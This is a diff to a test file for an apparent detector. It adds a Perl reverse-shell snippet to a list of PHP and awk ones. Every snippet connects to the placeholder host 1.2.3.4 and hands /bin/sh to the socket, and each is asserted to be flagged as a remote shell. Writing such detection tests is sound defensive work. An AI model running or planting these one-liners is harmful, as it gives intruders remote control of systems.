@@ -143,6 +143,9 @@ def test_sockets(language, src, host):
     ("php", "$s = fsockopen('1.2.3.4', 443); exec('/bin/sh -i <&3 >&3 2>&3');"),
     ("awk", "BEGIN { s = \"/inet/tcp/0/1.2.3.4/4444\"; while ((s |& getline c) > 0) { while ((c |"
             " getline o) > 0) print o |& s } }"),
+    # Perl's indirect object syntax (quality2)
+    ("perl", "my $s = new IO::Socket::INET(PeerAddr => '1.2.3.4:9001'); open(STDIN, '<&',"
+             " $s); open(STDOUT, '>&', $s); exec('/bin/sh -i');"),
 ])
 def test_remote_shells(language, src):
     assert "remote_shell" in run(language, src).actions
